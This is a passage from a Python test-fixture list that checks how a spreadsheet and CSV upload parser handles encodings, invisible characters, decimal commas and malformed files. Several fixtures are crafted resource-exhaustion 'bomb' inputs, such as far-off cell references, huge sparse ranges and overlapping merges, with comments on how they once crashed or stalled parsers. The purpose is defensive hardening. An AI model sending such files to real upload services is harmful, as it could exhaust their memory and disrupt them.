        _h("cell_100k_chars_name.xlsx", _long_cell, "rejected", ("cell_too_long",), bomb=True),
        _h("cell_100k_chars_note.xlsx", _long_note, "read",
           why="a long text in an unused column is not an error"),
        _h("invisible_marks_in_names.xlsx", _invisible_marks, "read",
           why="zero-width, bidi and control characters removed before matching"),
        _h("new_agency_with_marks.xlsx", _new_agency_with_marks, "read",
           why="a new agency's name is stored cleaned"),
        _h("duplicate_headers.xlsx", _duplicate_headers, "rejected", ("duplicate_header",)),
        _h("shared_string_index_out_of_range.xlsx", _bad_shared_index, "rejected",
           ("damaged", "missing_columns", "no_data", "missing_name")),
        _h("date_in_score_cell.xlsx", _strings_as_scores_with_dates, "rejected",
           ("not_numeric",)),
        _h("error_value_in_score_cell.xlsx", _error_cells, "rejected", ("not_numeric",)),
        _h("infinity_as_score.xlsx", _nan_inf_text, "rejected", ("not_numeric",)),
        _h("years_out_of_range.xlsx", _year_out_of_range, "rejected", ("bad_year",), kwargs={}),
        _h("scores_with_nbsp_and_zero_width.xlsx", _scores_as_strings_with_nbsp, "read"),
        # CSV
        _h("quotes_and_newlines.csv", _csv_quotes_newlines, "read"),
        _h("mixed_encodings.csv", _csv_mixed_encodings, "rejected", ("mixed_encoding",)),
        _h("utf16_le_bom.csv", _csv_utf16("utf-16-le", b"\xff\xfe"), "read"),
        _h("utf16_be_bom.csv", _csv_utf16("utf-16-be", b"\xfe\xff"), "read"),
        _h("utf16_without_bom.csv", _csv_utf16("utf-16-le", b""), "rejected", ("unreadable",)),
        _h("utf32_bom.csv", _csv_utf16("utf-32", b""), "read"),
        _h("nul_bytes.csv", _csv_nul_bytes, "rejected", ("unreadable",)),
        _h("million_rows.csv", _csv_million_rows, "rejected", ("too_many_rows",), bomb=True),
        _h("columns_16000.csv", _csv_wide, "rejected", ("too_many_columns",), bomb=True),
        _h("one_huge_field.csv", _csv_one_huge_field, "rejected", ("unreadable", "cell_too_long"),
           bomb=True),
        # issue 17: the size scan reads any spelling; one upload never takes the process down
        _h5("refs_single_quoted.xlsx",
            _with_far_cell("<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"),
            "rejected", ("too_many_rows", "too_many_columns"), bomb=True,
            why="single-quoted refs went unseen; calamine aborted on a 58 GB allocation"),
        _h5("refs_prefixed.xlsx",
            _with_far_cell('<x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>',
                           prefixed=True),
            "rejected", ("too_many_rows", "too_many_columns"), bomb=True,
            why="x:c and x:row elements went unseen"),
        _h5("refs_four_letters.xlsx",
            _with_far_cell('<row r="100000"><c r="AAAA100000"><v>1</v></c></row>'),
            "rejected", ("too_many_columns",), bomb=True, why="column AAAA is 475,254"),
        _h5("refs_lower_case_spaced.xlsx",
            _with_far_cell('<row r = "1048576"><c r =\n"xfd1048576"><v>1</v></c></row>'),
            "rejected", ("too_many_rows", "too_many_columns"), bomb=True),
        _h5("sparse_300x200000.xlsx",
            _with_far_cell('<row r="200000"><c r="KN200000"><v>1</v></c></row>'),
            "rejected", ("too_many_cells",), bomb=True,
            why="a few cells span 60 million: the readers fill the whole rectangle"),
        _h5("sparse_300x200000_prefixed.xlsx",
            _with_far_cell('<x:row r="200000"><x:c r="KN200000"><x:v>1</x:v></x:c></x:row>',
                           prefixed=True),
            "rejected", ("too_many_cells",), bomb=True, why="35 s and 3 GB before"),
        _h5("merges_3000_overlapping.xlsx", lambda: _overlapping_merges(3_000), "rejected",
            ("bad_merges",), bomb=True),
        _h5("merges_30000_overlapping.xlsx", lambda: _overlapping_merges(30_000), "rejected",
            ("bad_merges",), bomb=True),
        _h5("sniffer_killer.csv", _sniffer_killer, "read",
            why="the delimiter is found by counting, in linear time"),
        _h5("header_cell_1mb.xlsx", lambda: _header_cells(1), "read", bomb=True,
            why="a header cell of a million characters cannot be a header"),
        _h5("header_cells_120mb_text.xlsx", lambda: _header_cells(120), "rejected",
            ("too_much_data", "read_timeout"), bomb=True,
            why="103 s in header recognition before; 120 million characters never leave the "
                "child (refused for their size, or on a busy machine for the time they take)"),
        # issue 17: decimal commas are read for a whole column, or the file is refused
        _h5("comma_decimals_semicolons.csv", lambda: csv_bytes(_comma_rows(), "utf-8", sep=";"),
            "read"),
        _h5("comma_decimals_quoted.csv", lambda: csv_bytes(_comma_rows(), "utf-8"), "read"),
        _h5("comma_decimals_as_text.xlsx", lambda: seed_workbook(_comma_rows()), "read"),
        _h5("comma_decimals_mixed.csv", lambda: csv_bytes(_comma_mixed(), "utf-8", sep=";"),
            "rejected", ("ambiguous_decimal",)),
    ]
    return {f.file_name.replace(".", "_"): f for f in files}
